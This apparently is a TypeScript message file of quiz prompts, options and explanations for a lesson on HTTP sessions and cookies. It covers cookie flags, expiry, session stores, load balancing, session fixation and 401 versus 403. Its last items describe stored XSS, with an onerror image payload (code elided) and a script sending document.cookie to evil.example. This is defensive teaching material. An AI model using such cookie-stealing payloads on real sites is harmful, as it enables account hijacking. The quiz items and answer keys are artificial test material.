      prompt: 'Put in order how Mina’s cookie comes to stay off the café’s http link.',
      options: {
        option: 'The server sets cookie.secure: true',
        login: 'Mina logs in over https, and the Set-Cookie ends in Secure',
        jar: 'Her jar keeps the cookie marked Secure',
        withheld: 'On the http link, the browser leaves the cookie out',
      },
      explain:
        'Every link counts: the option changes only the cookies the server sets from then on, and it is the browser that keeps a Secure cookie off http.',
    },
    'kinds-close-ends': {
      prompt: 'The cookie has no Max-Age. Mina closes her browser. What ends?',
      options: {
        'browser-and-connection':
          'The browser session and its connection; the login session stays on the server, out of reach',
        'all-three': 'All three: the server deletes the session',
        'login-only': 'Only the login session',
        nothing: 'Nothing: cookies always survive',
      },
      explain:
        'Closing the browser drops memory cookies and closes its connections. Nobody tells the server: the session stays in its store until it expires or the server restarts.',
    },
    'kinds-new-connection': {
      prompt:
        'The server closed Mina’s idle connection after 5 seconds. She clicks My page a minute later. What happens to her login?',
      options: {
        'still-in': 'Nothing: she is still logged in',
        'logged-out': 'She is logged out',
        'new-row': 'A new guest book row is made',
        error: 'The request fails',
      },
      explain:
        'The browser opens a new connection and the cookie rides on the request as always. The login session does not live in the connection.',
    },
    'kinds-idle-ends': {
      prompt:
        'Mina leaves the tab open for longer than the idle timeout, then clicks My page. Which of the three did the idle timeout end?',
      options: {
        'login-only': 'Only the login session',
        'browser-only': 'Only the browser session',
        'all-three': 'All three',
        'connection-only': 'Only the connection',
      },
      explain:
        'The browser session lasts until the browser closes, and the connection had closed long before, after 5 seconds. The idle timeout ends the login session.',
    },
    'secure-http-answer': {
      prompt:
        'The shop has cookie.secure: true. This is its answer to a request over plain http. Which line cannot be there?',
      explain:
        'Over plain http, express-session with secure: true sends no Set-Cookie at all: the answer has no cookie line.',
    },
    'kinds-lifetimes': {
      prompt:
        'Mina reads each page for a minute, keeps the browser open all day, and the idle timeout is 30 minutes. Put in order what ends first to what ends last, after she stops clicking.',
      options: {
        connection: 'The connection (5 seconds without a request)',
        login: 'The login session (30 minutes without a request)',
        browser: 'The browser session (when she closes the browser in the evening)',
      },
      explain:
        'Three different clocks: the server’s keep-alive timeout, the session’s idle timeout, and the person who closes the browser.',
    },
    'kinds-memory-cookie': {
      prompt:
        'Mina’s login should survive closing the browser. The server answered her login with this. Which line is why it will not?',
      explain:
        'That Set-Cookie has neither Expires nor Max-Age: a memory cookie, which lasts one browser session.',
    },
    'life-browser-holds': {
      prompt: 'After the first visit, what does Chrome keep for this shop?',
      options: {
        data: 'Everything the server knows about the visit',
        id: 'Only the signed session ID, in the connect.sid cookie',
        password: 'The user name and password, for later logins',
        row: 'A copy of its row of the guest book',
      },
      explain:
        'The cookie holds only the signed session ID. The session’s data (user_id, the cart) stays in the store on the server; the ID is how the server finds it.',
    },
    'life-cookie-header': {
      prompt: 'Chrome asks for My page. Which line would a browser never send?',
      explain:
        'The Cookie header carries name=value pairs only. Path, HttpOnly and Expires come in Set-Cookie, stay in the jar and decide when the cookie is sent; they never travel back.',
    },
    'life-idle': {
      prompt:
        'The shop sets cookie.maxAge to 30 minutes with rolling: true. Mina, logged in, opens a page every 10 minutes for two hours. What happens?',
      options: {
        'after-30': 'She is logged out 30 minutes after logging in',
        stays: 'She stays logged in the whole time',
        'every-request': 'She has to log in again on every page',
        'two-hours': 'She is logged out after exactly two hours',
      },
      explain:
        'Every response sends Set-Cookie again with an Expires 30 minutes ahead and touches the session, so the 30 minutes start over at each request: an idle timeout. Only 30 quiet minutes end it.',
    },
    'life-login': {
      prompt: 'Put the steps of Mina’s login in order.',
      options: {
        post: 'Chrome sends POST /login with the form and its old cookie',
        password: 'The server checks the user name and password',
        regenerate: 'The server deletes the old session and starts one under a new ID',
        bind: 'The server writes user_id 152 into the new session',
        'set-cookie': 'Set-Cookie hands Chrome the new ID',
      },
      explain:
        'Only a real login earns a new session, so the password comes first. Renewing the ID (regenerate) empties the session, so the user is bound after it; the new ID goes back in Set-Cookie.',
    },
    'life-lazy': {
      prompt:
        'Mina’s session in MemoryStore has expired, and no request asks for it again. What happens to its row?',
      options: {
        timer: 'A timer deletes it the moment it expires',
        browser: 'The browser deletes it when it drops the cookie',
        lingers: 'It stays in memory until something reads it, such as store.all()',
        null: 'Its user_id becomes NULL',
      },
      explain:
        'MemoryStore checks expiry only when it reads a session, and then deletes an expired one. Nothing else cleans up, which is why it leaks. Redis deletes by TTL, Laravel by a lottery.',
    },
    'life-destroy': {
      prompt: 'A logout route calls req.session.destroy() and nothing else. What happens?',
      options: {
        cleared: 'destroy() deletes both the row and the cookie in the browser',
        error: 'The next request with the old cookie gets an error page',
        'still-in': 'Mina stays logged in until her cookie expires',
        'cookie-stays':
          'The row is deleted, but the browser keeps the cookie; the server finds no session for it',
      },
      explain:
        'destroy() only removes the session from the store; by itself it sends no Set-Cookie. The old cookie keeps coming and points at nothing. To clear it the app sends its own Set-Cookie, as this shop does.',
    },
    'crowd-tell-apart': {
      prompt:
        'Chrome, Safari and Edge visit the shop. How does the server know which row is whose?',
      options: {
        ip: 'By the IP address',
        cookie: 'By the session ID in the cookie each browser sends',
        agent: 'By the User-Agent',
        arrival: 'By the order they arrived in',
      },
      explain:
        'The server finds a session only by the ID in the cookie. A row may note the IP and User-Agent, but many people share one IP, and many browsers send the same User-Agent.',
    },
    'crowd-null': {
      prompt: 'A row in the guest book has user_id NULL. What is it?',
      options: {
        expired: 'A session that has expired',
        'logged-out': 'A user who has logged out',
        guest: 'A visitor who has not logged in',
        failed: 'A row the server failed to write',
      },
      explain:
        'A session starts at the first visit, before any login; user_id is written only when someone logs in. Logging out here deletes the row instead.',
    },
    'crowd-other-browser': {
      prompt:
        'Mina is logged in on Chrome. On the same computer she opens the shop in Safari. Is she logged in there?',
      options: {
        'yes-computer': 'Yes: it is the same computer',
        'yes-ip': 'Yes: the server sees the same IP address',
        no: 'No: Safari has its own jar, with no cookie for the shop',
      },
      explain:
        'Each browser keeps its own cookie jar. Safari sends no session ID, so to the server it is a new visitor, however close it sits to Chrome.',
    },
    'crowd-first-visit': {
      prompt: 'Put Safari’s first visit in order.',
      options: {
        'no-cookie': 'Safari sends GET / with no Cookie header',
        create: 'The server finds no connect.sid and creates a session with a random ID',
        'set-cookie': 'The response carries Set-Cookie with the signed ID',
        store: 'Safari keeps the cookie in its own jar',
        'send-back': 'Safari’s next request carries Cookie: connect.sid=…',
      },
      explain:
        'The server can recognise only what it handed out: the ID goes out in Set-Cookie, and from then on the browser sends it back by itself with every request to the shop.',
    },
    'crowd-response-cookie': {
      prompt:
        'The server means to give Safari its session ID with this response. Which line fails?',
      explain:
        'Cookie is a request header: browsers send it. A server asks the browser to keep a cookie with Set-Cookie. Safari ignores a Cookie line in a response, so it gets no session ID.',
    },
    'security-httponly': {
      prompt: 'What does the HttpOnly flag do to the session ID cookie?',
      options: {
        https: 'The browser sends it over HTTPS only',
        scripts: 'Page scripts cannot read it (document.cookie); the browser still sends it',
        encrypt: 'The browser encrypts its value',
        'other-sites': 'Requests from other sites cannot carry it',
      },
      explain:
        'HttpOnly hides the cookie from scripts, so an XSS script cannot read the session ID. HTTPS only is Secure; other sites’ requests are SameSite’s business. The value is signed, not encrypted.',
    },
    'security-tamper': {
      prompt:
        'Someone edits their connect.sid to a made-up value and asks for My page. What does express-session do?',
      options: {
        'new-session':
          'It sees the signature does not match, ignores the cookie and starts a new session',
        error: 'It answers with an error page (500)',
        enters: 'It opens the session with that ID, if there is one',
        blocked: 'It blocks the browser’s IP address',
      },
      explain:
        'Without the server’s secret nobody can sign an ID. A bad signature counts as no cookie at all: a fresh anonymous session and, for My page, the 401 any stranger gets. No crash, no error page of its own, and no way in.',
    },
    'security-stolen': {
      prompt: 'An attacker has copied Mina’s session ID cookie. What makes the copy worthless?',
      options: {
        'close-tab': 'Mina closes her tab',
        'clear-own': 'Mina deletes the cookie in her own browser',
        logout: 'Mina logs out, so the server deletes the session',
        'new-ip': 'Mina moves to another network',
      },
      explain:
        'The copy is just an ID, good for as long as the server keeps that session. Logging out deletes it on the server. Closing a tab or clearing her own cookie leaves it alive until it times out, and express-session does not check IPs.',
    },
    'security-fixation': {
      prompt: 'Put the session fixation attempt in order, and see where it fails.',
      options: {
        'get-id': 'The attacker visits the shop and gets an anonymous session ID',
        plant: 'The attacker plants that ID in Mina’s browser',
        login: 'Mina logs in with her password',
        renew: 'The server renews the ID: the planted one is deleted',
        refused: 'The attacker sends the planted ID and gets 401',
      },
      explain:
        'Fixation works only if the ID the attacker knows becomes the logged-in one. Renewing the ID at login (regenerate) throws it away, which is why OWASP requires it.',
    },
    'security-samesite-none': {
      prompt: 'After login Chrome refuses one of these cookies. Which line?',
      explain:
        'SameSite=None lets other sites’ requests carry the cookie, and browsers accept it only together with Secure. Without Secure, Chrome drops the session ID cookie and the next page does not know Mina.',
    },
    'expiry-no-expires': {
      prompt:
        'A Set-Cookie has neither Expires nor Max-Age. When does the browser drop the cookie?',
      options: {
        'half-hour': 'After 30 minutes',
        close: 'When the browser closes (unless it restores its last session)',
        never: 'Never',
        day: 'After one day',
      },
      explain:
        'With no date it is a session (memory) cookie: it lasts until the browser closes. A browser that restores your tabs on start-up may restore it too.',
    },
    'expiry-server-row': {
      prompt:
        'express-session has no cookie.maxAge and keeps sessions in MemoryStore. Mina closes her browser. What happens to her row?',
      options: {
        deleted: 'It is deleted when the browser closes',
        'half-hour': 'It expires after 30 minutes',
        stays: 'It stays until the server restarts: it never expires',
        'next-request': 'It is deleted at the next request from anyone',
      },
      explain:
        'The server never learns that a browser closed. Without maxAge the session has no expiry, so MemoryStore keeps it for good. That is why real stores set a TTL (connect-redis: one day).',
    },
    'expiry-persistent': {
      prompt:
        'Which setting makes express-session send a persistent cookie, one that survives closing the browser?',
      options: {
        httponly: 'cookie.httpOnly: true',
        secure: 'cookie.secure: true',
        rolling: 'rolling: true on its own',
        'max-age': 'cookie.maxAge (then Set-Cookie carries Expires)',
      },
      explain:
        'express-session turns cookie.maxAge into an Expires date, and a cookie with a date outlives the browser. HttpOnly and Secure say who may see it, not how long it lives; rolling only sends it again.',
    },
    'expiry-remember': {
      prompt: 'Put “remember me” in order.',
      options: {
        option: 'The server sets cookie.maxAge to 7 days',
        login: 'Mina logs in; Set-Cookie carries an Expires 7 days ahead',
        disk: 'Chrome writes the cookie to disk',
        reopen: 'Mina closes Chrome and opens it an hour later',
        works: 'Chrome still sends the cookie, and My page works at once',
      },
      explain:
        'A cookie with Expires outlives the browser. The session on the server lives as long: express-session gives it the same maxAge.',
    },
    'expiry-forgotten': {
      prompt:
        'Mina asked to be remembered for 7 days, but Chrome forgets her when it closes. Which line is to blame?',
      explain:
        'That Set-Cookie has no Expires or Max-Age, so it is a memory cookie that dies with the browser. Setting cookie.maxAge adds Expires. Secure and SameSite do not change how long a cookie lives.',
    },
    'storage-restart': {
      prompt:
        'Sessions live in the server’s memory (MemoryStore), and the server restarts. Mina’s cookie is still in her jar. What happens when she opens My page?',
      options: {
        'logged-in': 'She is still logged in: the cookie holds her login',
        'new-session': 'Her ID points to nothing: a new anonymous session, and 401',
        error: 'The server shows an error about a missing session',
        'auto-login': 'The browser logs her in again by itself',
      },
      explain:
        'Memory is volatile: a restart wipes every session. The cookie holds only an ID, and an unknown ID quietly starts a new session. Everyone is logged out at once.',
    },
    'storage-redis': {
      prompt: 'Why keep sessions in a store such as Redis rather than in the app server’s memory?',
      options: {
        shorter: 'The session ID gets shorter',
        readable: 'The browser can read the session',
        survives: 'They outlive a restart of the app, and several servers can share them',
        'no-cookie': 'No cookie is needed any more',
      },
      explain:
        'Redis runs apart from the app, so the app can restart without losing sessions and many app servers can read the same ones. Redis also deletes expired sessions by TTL. The browser still holds only the ID.',
    },
    'storage-uninitialized': {
      prompt:
        'A thousand visitors browse and never log in. Which express-session option spares the server a row for each?',
      options: {
        resave: 'resave: false',
        rolling: 'rolling: false',
        httponly: 'cookie.httpOnly: true',
        'save-uninitialized': 'saveUninitialized: false',
      },
      explain:
        'With saveUninitialized: false, a new session that nothing was written into is neither stored nor sent as a cookie. Only visitors who log in or fill a cart cost a row.',
    },
    'storage-request': {
      prompt: 'Put what express-session does with one request in order.',
      options: {
        read: 'Read connect.sid from the Cookie header',
        verify: 'Check its signature with the secret',
        lookup: 'Find the session in the store by its ID',
        use: 'The route reads or changes req.session (say, adds to the cart)',
        save: 'Save the changed session back to the store',
      },
      explain:
        'The session is loaded before the route runs and saved after it, so the route simply uses req.session. In between it lives in the store: memory, Redis or a table.',
    },
    'storage-client-data': {
      prompt: 'Which line keeps on the client what belongs in the session?',
      explain:
        'cart_total is plain data in a cookie: the visitor can read it, change it to 1 and pay less, and it travels with every request. With a session the cart stays on the server and only the signed ID travels.',
    },
    'cluster-lost': {
      prompt:
        'Two servers behind a load balancer keep sessions in their own memory. Mina logs in on A; her next request reaches B. What happens?',
      options: {
        forward: 'B passes the request on to A',
        'new-session': 'B does not know her ID: 401, and a new session with a new cookie',
        'cookie-data': 'B reads her login from the cookie',
        signed: 'B trusts the ID because its signature checks out',
      },
      explain:
        'B has never seen that session. A good signature only shows that the ID was made with the secret, not that B has the session. B starts a new one, and its cookie replaces the one A knew.',
    },
    'cluster-sticky': {
      prompt: 'What is the weakness of sticky sessions?',
      options: {
        down: 'If a server goes down, everyone pinned to it is logged out, and load spreads less evenly',
        copies: 'Every server must hold every session',
        redis: 'They need a Redis store',
        cookie: 'The cookie must carry the user’s data',
      },
      explain:
        'The load balancer sends each visitor to the same server, so each session still lives in one server’s memory. A copy on every server is replication; a shared Redis is a central store.',
    },
    'cluster-replication': {
      prompt: 'Four servers replicate their sessions. How many copies of each session are there?',
      options: {
        one: 'One',
        two: 'Two',
        four: 'Four',
        none: 'None: the cookie carries it',
      },
      explain:
        'Replication copies every session to every server: four servers, four copies. Memory grows with the number of servers, and every change has to reach all of them.',
    },
    'cluster-central': {
      prompt: 'With one central store, put Mina’s two requests in order.',
      options: {
        'login-a': 'Mina logs in; the load balancer sends the request to server A',
        write: 'A writes her session to Redis',
        'next-b': 'Her next request goes to server B',
        read: 'B reads the session from Redis by the ID in her cookie',
        answer: 'B answers My page with 200',
      },
      explain:
        'There is one copy of each session, and every server reads and writes it there, so any server can answer. In express-session this is one option: store: new RedisStore({ client }).',
    },
    'cluster-cookie-name': {
      prompt:
        'Servers A and B both run express-session with its default settings. This answer claims to come from B. Which line is wrong?',
      explain:
        'express-session names its cookie connect.sid by default and signs it, so the value starts with s%3A. JSESSIONID is the session ID cookie of Java servlet servers such as Tomcat.',
    },
    'cookie-store-where': {
      prompt:
        'The shop runs on cookie-session. Chrome has put an apple in the cart. Where is the cart kept?',
      options: {
        'server-memory': 'In the server’s memory, under a session ID',
        cookie: 'In Chrome’s cookie named session, as base64 JSON',
        both: 'In both: the cookie holds a copy',
        redis: 'In Redis',
      },
      explain:
        'cookie-session writes the whole session into the cookie and keeps nothing on the server: the guest book stays empty. Every request brings the cart back.',
    },
    'cookie-store-signing': {
      prompt: 'What does session.sig, made with the server’s secret key, do?',
      options: {
        hides: 'It hides the data from the visitor',
        'detects-change': 'It lets the server tell whether the value is exactly what it wrote',
        'encrypts-id': 'It encrypts the user ID so nobody can read it',
        expires: 'It makes the cookie expire',
      },
      explain:
        'A signature is not encryption. Anyone can decode the base64 and read userId; only someone with the key can make a signature that matches a changed value.',
    },
    'cookie-store-edit': {
      prompt:
        'A visitor edits the cookie named session to say userId 214 and keeps the old session.sig. What does the server do?',
      options: {
        'joon-page': 'It shows Joon’s page',
        'error-500': 'It fails with an error 500',
        'empty-session': 'It ignores the cookie and starts an empty session: My page answers 401',
        'mina-page': 'It shows Mina’s page, because the signature was hers',
      },
      explain:
        'The signature does not match the edited value, so cookie-session reads nothing from the cookie: a new, empty session, no error. It also tells the browser to drop the bad session.sig.',
    },
    'cookie-store-grows': {
      prompt: 'Mina puts ten more things in her cart. Which request gets bigger?',
      options: {
        'session-id': 'The one with a session ID (connect.sid)',
        'cookie-store': 'The one with the cookie store (session and session.sig)',
        both: 'Both, by the same amount',
        neither: 'Neither: cookies have a fixed size',
      },
      explain:
        'With a session ID the cart stays on the server and the cookie is the same ID every time. With a cookie store the whole cart travels in every request, and a cookie is limited to about 4 KB.',
    },
    'cookie-store-revoke': {
      prompt:
        'Someone copied Mina’s cookies, then Mina logged out. With which way is the copy worthless at once?',
      options: {
        'session-id': 'Session ID: logout deleted the session on the server',
        'cookie-store': 'Cookie store: logout cleared the cookie',
        both: 'Both',
        neither: 'Neither',
      },
      explain:
        'Logout clears only the cookies of the browser that logged out. With a session ID the server also deletes the row, so the copied ID points to nothing. A cookie store has no row to delete: the copy is valid until it expires.',
    },
    'cookie-store-request': {
      prompt: 'Put what cookie-session does with one request in order.',
      options: {
        cookie: 'Read the session and session.sig cookies',
        signature: 'Sign “session=<value>” with the key and compare with session.sig',
        base64: 'Decode the base64',
        json: 'Parse the JSON into req.session',
        route: 'The route reads req.session (say, the cart)',
      },
      explain:
        'The signature is checked before anything is decoded: a value that does not match is never read. There is no store to look up: the data is in the cookie.',
    },
    'cookie-store-key': {
      prompt: 'This answer comes from a shop on cookie-session. Which line must never be sent?',
      explain:
        'The key signs the cookies and must stay on the server: whoever has it can sign any session, say userId 214. session and session.sig are what cookie-session sends.',
    },
    'authz-401': {
      prompt: 'What does 401 Unauthorized from the admin page tell the visitor?',
      options: {
        who: 'The server does not know who you are: log in',
        'may-not': 'The server knows you, and you may not see this page',
        'not-found': 'There is no such page',
        'server-error': 'The server broke',
      },
      explain:
        'Despite its name, 401 is about authentication: no valid login came with the request. The fix is to log in.',
    },
    'authz-403': {
      prompt: 'And 403 Forbidden?',
      options: {
        who: 'The server does not know who you are',
        'may-not': 'The server knows who you are, and this account may not do this',
        'log-in-again': 'The session expired: log in again',
        expired: 'The cookie is too old',
      },
      explain:
        '403 is about authorization: the login is fine, the permission is missing. Logging in again as the same account changes nothing.',
    },
    'authz-joon': {
      prompt:
        'Joon is logged in, and his account is not an admin. What does the admin page answer?',
      options: { '200': '200', '401': '401', '403': '403', '404': '404' },
      explain:
        'The session names Joon, so he is authenticated; his account lacks the admin role, so he is not authorized: 403.',
    },
    'authz-where': {
      prompt: 'Where does the shop find out that Sora may open the admin page?',
      options: {
        'cookie-role': 'In a role written in her cookie',
        'server-account': 'On the server: the session gives user_id 7, and the account says admin',
        browser: 'In the browser, which hides the button from others',
        url: 'In the page’s address',
      },
      explain:
        'The cookie carries only the session ID. The server looks up the session, then the account, and checks the role on every request. Anything the browser holds could be edited.',
    },
    'authz-order': {
      prompt: 'Put what the server does for GET /admin in order.',
      options: {
        cookie: 'Read the session ID cookie and check its signature',
        session: 'Find the session in the guest book',
        user: 'Authentication: is a user logged in on it? If not, 401',
        role: 'Authorization: is that account an admin? If not, 403',
        answer: 'Answer 200 with the admin page',
      },
      explain:
        'First who (authentication), then what they may do (authorization). 401 comes before 403.',
    },
    'authz-status': {
      prompt:
        'Joon, logged in, opens the admin page. This answer claims to come from the shop. Which line is wrong?',
      explain:
        'A 403 refuses this one page: Joon stays logged in, so the server has no reason to clear his session ID cookie. Clearing it is what logout does.',
    },
    'everywhere-tomcat-name': {
      prompt: 'Which cookie carries the session ID on Tomcat?',
      options: {
        'connect-sid': 'connect.sid',
        PHPSESSID: 'PHPSESSID',
        JSESSIONID: 'JSESSIONID',
        session: 'session',
      },
      explain:
        'Java servlet servers call it JSESSIONID. connect.sid is express-session’s, PHPSESSID PHP’s, and session is Flask’s, which in its default form carries the data itself.',
    },
    'everywhere-renew-php': {
      prompt: 'Which call gives PHP’s session a new ID at login?',
      options: {
        regenerate: 'session_regenerate_id(true)',
        'change-session-id': 'request.changeSessionId()',
        clear: 'session.clear()',
        none: 'None: PHP cannot renew the ID',
      },
      explain:
        'session_regenerate_id(true) moves the data to a new ID and deletes the old file. changeSessionId() is Java’s; session.clear() is Flask’s, and it empties the session without a new ID.',
    },
    'everywhere-no-row': {
      prompt: 'On which stack did Mina’s login leave no row in the guest book?',
      options: {
        express: 'express-session',
        php: 'PHP',
        tomcat: 'Tomcat',
        flask: 'Flask, with its own session',
      },
      explain:
        'Flask’s own session is the cookie: the data travels with every request and the server keeps nothing. The others keep the data and send only an ID.',
    },
    'everywhere-readable': {
      prompt:
        'Someone copies the cookie that holds Mina’s Flask session. Without the secret key, what can they do with what is inside?',
      options: {
        read: 'Read it: base64 hides nothing',
        change: 'Change user_id to someone else’s and be believed',
        nothing: 'Nothing: it is encrypted',
      },
      explain:
        'The cookie is signed, not encrypted: anyone can read it, nobody without the key can change it unnoticed. (They can still send it as it is: a stolen cookie works until it expires.)',
    },
    'everywhere-adopt': {
      prompt: 'Which of these never starts a session under an ID the client made up?',
      options: {
        php: 'PHP with its defaults',
        'flask-files': 'Flask-Session 0.3.2 without a signer',
        tomcat: 'Tomcat',
      },
      explain:
        'Tomcat answers an unknown JSESSIONID with a new session and a new ID of its own. PHP (without use_strict_mode) and Flask-Session (without SESSION_USE_SIGNER) adopt the ID they are sent.',
    },
    'everywhere-same-steps': {
      prompt: 'Put in order what every stack did for each request.',
      options: {
        'read-cookie': 'Read the cookie the request carries',
        'find-session': 'Find the session (in a store, or in the cookie itself)',
        'run-app': 'Run the app’s code',
        'save-session': 'Save the session',
        'send-cookie': 'Send Set-Cookie when needed',
      },
      explain:
        'The same five moves on every stack; only the names, the ID and the place the data lives change.',
    },
    'stateless-meaning': {
      prompt: 'What does it mean that HTTP is stateless?',
      options: {
        'no-memory':
          'The protocol keeps nothing between two requests: each must say who it is from',
        'no-server': 'There is no server, only the browser',
        'no-https': 'It is not encrypted',
        'one-request': 'A page can send only one request',
      },
      explain:
        'Each request stands alone. Cookies (and the session they name) are added on top of HTTP so that a server can tell requests from the same browser apart from others.',
    },
    'stateless-rows': {
      prompt:
        'A browser that blocks all cookies opens the home page three times. How many new rows does the guest book get?',
      options: { one: 'One', three: 'Three', none: 'None', two: 'Two' },
      explain:
        'Each request comes without a cookie, so each starts a new session: three rows, none of which the browser can ever name again.',
    },
    'stateless-login': {
      prompt:
        'With cookies blocked, Mina logs in (the password is right), then opens My page. What does My page answer?',
      options: { '200': '200', '401': '401', '403': '403', '500': '500' },
      explain:
        'The login did bind user_id 152 to a session, but its ID never reached the browser, so My page arrives without it: 401.',
    },
    'stateless-remember': {
      prompt: 'Put in order how a server comes to remember a browser.',
      options: {
        'set-cookie': 'The response carries Set-Cookie with the session ID',
        store: 'The browser keeps the cookie in its jar',
        'send-back': 'The next request carries Cookie with the same ID',
        recognise: 'The server finds the session by that ID',
      },
      explain:
        'Break any link (block cookies, delete the cookie, lose the session) and the next request is a stranger’s.',
    },
    'stateless-blocked-request': {
      prompt:
        'Safari blocks all cookies and opens My page. This request claims to be Safari’s. Which line is wrong?',
      explain:
        'A browser that blocks cookies sends no Cookie header at all: there is nothing in its request the server could recognise.',
    },
    'xss-what-runs': {
      prompt:
        'The review page does not escape. Which review runs a script by itself when Mina opens the page?',
      options: {
        'img-onerror': '<img src=x onerror="…">',
        bold: '<b>great mug</b>',
        escaped: '&lt;script&gt;alert(1)&lt;/script&gt;',
        onclick: '<a href="#" onclick="…">more</a>',
      },
      explain:
        'The image fails to load, so onerror runs with no one acting. Bold is only markup, the escaped one is text, and onclick waits for a click.',
    },
    'xss-httponly-does': {
      prompt:
        'The session ID cookie is HttpOnly, and the unescaped review is still on the page. What happens when Mina opens it?',
      options: {
        'runs-without-cookie':
          'The script runs, but document.cookie does not contain the session ID cookie',
        'nothing-runs': 'Nothing runs: HttpOnly blocks scripts',
        'still-steals': 'The session ID cookie is stolen as before',
        refused: 'The server refuses the page',
      },
      explain:
        'HttpOnly hides the cookie from scripts; it does not stop the script. The browser still sends the cookie to the shop with every request.',
    },
    'xss-escape-does': {
      prompt: 'The shop escapes reviews on output. What does Mina see where the payload was?',
      options: {
        'shown-as-text': 'The payload’s characters, as text; nothing runs',
        removed: 'Nothing: the review is deleted',
        'runs-later': 'A broken image that runs its code later',
        'cookie-hidden': 'The image, with the cookie hidden',
      },
      explain:
        '< becomes &lt;, which the browser shows as < instead of starting a tag. The review is kept, as the visitor typed it.',
    },
    'xss-attack-order': {
      prompt: 'Put stored XSS in order.',
      options: {
        plant: 'The attacker posts a review with markup in it',
        'victim-opens': 'Mina opens the review page',
        'browser-sends': 'Her browser runs it and sends document.cookie to evil.example',
        'thief-uses': 'The thief puts the stolen cookie into their own browser and opens My page',
      },
      explain: 'The shop stores the markup once; every browser that shows the page runs it.',
    },
    'xss-evil-request': {
      prompt:
        'Mina’s browser sends her cookie to evil.example. Which line of that request is wrong?',
      explain:
        'The browser sends the shop’s cookies only to the shop. The cookie travels in the address (?c=…), because the script put it there.',
    },
  },
};

export type ActivityMessages = typeof activitiesEn;
